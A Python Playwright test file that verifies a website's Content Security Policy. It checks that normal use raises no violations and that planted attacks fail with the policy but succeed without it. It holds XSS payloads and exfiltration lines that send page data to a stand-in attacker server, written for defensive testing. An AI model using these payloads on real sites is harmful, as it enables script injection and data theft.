"""The policy in a real browser: nothing in use offends it, and what an attacker would plant does nothing."""

from __future__ import annotations

import re
import threading
from collections.abc import Callable, Iterator
from functools import partial
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import TypeVar

import pytest
from playwright.sync_api import Browser, Page

from local_site import SilentHandler
from timeline_browser import tools

OpenPage = Callable[..., Page]

WATCH = """
window.offences = [];
window.hits = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.offences.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""
META = '<meta http-equiv="Content-Security-Policy"'


@pytest.fixture
def watched(open_page: OpenPage) -> Page:
    """A page that writes down what offends its policy, and everything that the browser complains of."""
    page = open_page("/")
    page.add_init_script(WATCH)
    return page


def offences(page: Page) -> list[str]:
    return [str(one) for one in page.evaluate("window.offences")]


def test_search_offends_nothing(watched: Page) -> None:
    watched.goto("/procedures/evaluation/")
    watched.get_by_role("textbox", name="Search the guide").press_sequentially("rapid review meeting")
    watched.locator(".guide-search__output a").first.wait_for(state="visible")
    assert offences(watched) == []


def test_the_timeline_its_data_its_downloads_and_print_offend_nothing(watched: Page) -> None:
    watched.goto("/timeline/")
    fields = watched.get_by_role("group", name="When did the duty desk receive the concern")
    for name, value in (("Day", "5"), ("Month", "1"), ("Year", "2026")):
        fields.get_by_role("textbox", name=name).fill(value)
    watched.get_by_role("button", name="Show the timeline").click()
    watched.get_by_role("list", name="Timeline").get_by_role("listitem").first.wait_for(state="visible")
    with watched.expect_download() as calendar:
        tools(watched).get_by_role("button", name="Calendar file").click()
    assert calendar.value.suggested_filename.endswith(".ics")
    with watched.expect_download() as spreadsheet:
        tools(watched).get_by_role("button", name="Spreadsheet").click()
    assert spreadsheet.value.suggested_filename.endswith(".csv")
    tools(watched).get_by_role("button", name="Copy as table").click()
    watched.get_by_text(re.compile("Table copied|did not let the guide copy")).wait_for(state="visible")
    watched.emulate_media(media="print")
    assert len(watched.pdf()) > 10_000
    assert offences(watched) == []


def test_data_in_a_page_needs_no_hash(watched: Page) -> None:
    watched.goto("/timeline/")
    assert watched.evaluate("JSON.parse(document.getElementById('timeline-calendars').textContent)")
    assert offences(watched) == []


def test_markup_is_refused_even_to_our_own_scripts(watched: Page) -> None:
    watched.goto("/")
    tried = watched.evaluate("""() => {
      const place = document.createElement("div"), told = {};
      for (const text of ["<img src=x onerror=hits.push(1)>", "<<b>img src=x onerror=hits.push(1)>",
                          "<b onclick=x>y</b>", "<script src=x></" + "script>", "<a href=javascript:x>y</a>",
                          "<b class='x' style='y'>z</b>", "<p>plain</p>"]) {
        try { place.innerHTML = text; told[text] = "written"; } catch (error) { told[text] = error.name; }
      }
      return { told: [...new Set(Object.values(told))], text: place.textContent };
    }""")
    assert tried == {"told": ["TypeError"], "text": ""}
    refused = watched.evaluate("""() => ["https://example.org/x.js", "data:text/javascript,1", "/page.html"].map(
      (address) => {
        try { document.createElement("script").src = address; return "taken"; } catch (error) { return error.name; }
      })""")
    assert refused == ["TypeError"] * 3


class Attacker(ThreadingHTTPServer):
    """Another host: it remembers whoever calls."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), AttackerHandler)
        self.calls: list[str] = []
        self.address = f"http://127.0.0.1:{self.server_port}"


class AttackerHandler(SilentHandler):
    server: Attacker

    def do_GET(self) -> None:  # noqa: N802 - the name is the server's
        self.server.calls.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"window.hits.push('foreign script')")

    def do_POST(self) -> None:  # noqa: N802 - the name is the server's
        self.do_GET()


class SpoiledSite(ThreadingHTTPServer):
    """The site, with an attack on one page and, to see what the policy is worth, perhaps without its policy."""

    def __init__(self, site: Path) -> None:
        super().__init__(("127.0.0.1", 0), partial(SpoiledHandler, directory=str(site)))
        self.markup = self.script = ""
        self.policy = True

    def spoiled(self, page: str) -> str:
        assert META in page
        page = page if self.policy else page.replace(META, '<meta name="no-policy"')
        return page.replace("</main>", f"{self.markup}<script src='/planted.js'></script></main>")


class SpoiledHandler(SilentHandler):
    server: SpoiledSite

    def do_GET(self) -> None:  # noqa: N802 - the name is the server's
        if self.path not in ("/about/", "/planted.js"):
            super().do_GET()
            return
        is_page = self.path == "/about/"
        page = Path(self.directory, "about/index.html").read_text("utf-8") if is_page else ""
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8" if is_page else "text/javascript")
        self.end_headers()
        self.wfile.write((self.server.spoiled(page) if is_page else self.server.script).encode("utf-8"))


S = TypeVar("S", bound=ThreadingHTTPServer)


def running(server: S) -> Iterator[S]:
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    yield from running(Attacker())


@pytest.fixture
def spoiled_site(harbour_site: Path) -> Iterator[SpoiledSite]:
    yield from running(SpoiledSite(harbour_site))


# Each is planted in the page: markup, and a script file of this site that somebody managed to change.
ATTACKS = {
    "inline script": ("<script>hits.push('inline script')</script>", ""),
    "inline module": ("<script type='module'>hits.push('inline module')</script>", ""),
    "handler": ("<img src='/none.png' alt='' onerror=\"hits.push('handler')\">", ""),
    "javascript link": (
        "<a id='link' href=\"javascript:hits.push('link')\">x</a>",
        "document.getElementById('link').click()",
    ),
    "eval": ("", "eval(\"hits.push('eval')\")"),
    "function from text": ("", "new Function(\"hits.push('function')\")()"),
    "timer from text": ("", "setTimeout(\"hits.push('timer')\")"),
    "foreign script": ("<script src='{attacker}/script'></script>", ""),
    "foreign fetch": ("", "fetch('{attacker}/fetch?' + document.title)"),
    "foreign beacon": ("", "navigator.sendBeacon('{attacker}/beacon', 'dates')"),
    "foreign picture": ("<img src='{attacker}/picture' alt=''>", ""),
    "foreign style": ("<link rel='stylesheet' href='{attacker}/style'>", ""),
    "foreign form": (
        "<form id='form' method='post' action='{attacker}/form' target='_blank'></form>",
        "document.getElementById('form').submit()",
    ),
    "foreign frame": ("<iframe src='{attacker}/frame'></iframe>", ""),
    "foreign base": ("<base href='{attacker}/'><img src='base.png' alt=''>", ""),
    "worker from text": ("", "new Worker(URL.createObjectURL(new Blob(['fetch(\"{attacker}/worker\")'])))"),
}  # fmt: skip


def suffer(browser: Browser, site: SpoiledSite, attacker: Attacker, attack: str) -> tuple[bool, list[str]]:
    """Opens the page with the attack on it; gives whether it had its way, and what offended the policy."""
    site.markup, site.script = (part.replace("{attacker}", attacker.address) for part in ATTACKS[attack])
    context = browser.new_context(base_url=f"http://127.0.0.1:{site.server_port}", service_workers="block")
    page = context.new_page()
    page.add_init_script(WATCH)
    page.goto("/about/", wait_until="load")
    page.wait_for_timeout(300)  # what has not come by then comes too late for the control as well
    succeeded, offended = bool(page.evaluate("window.hits.length") or attacker.calls), offences(page)
    context.close()
    return succeeded, offended


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_planted_attack_does_nothing_and_would_succeed_without_the_policy(
    browser: Browser, spoiled_site: SpoiledSite, attacker: Attacker, attack: str
) -> None:
    succeeded, offended = suffer(browser, spoiled_site, attacker, attack)
    assert not succeeded, attacker.calls
    assert offended != []
    spoiled_site.policy = False
    succeeded, offended = suffer(browser, spoiled_site, attacker, attack)
    assert succeeded
    assert offended == []
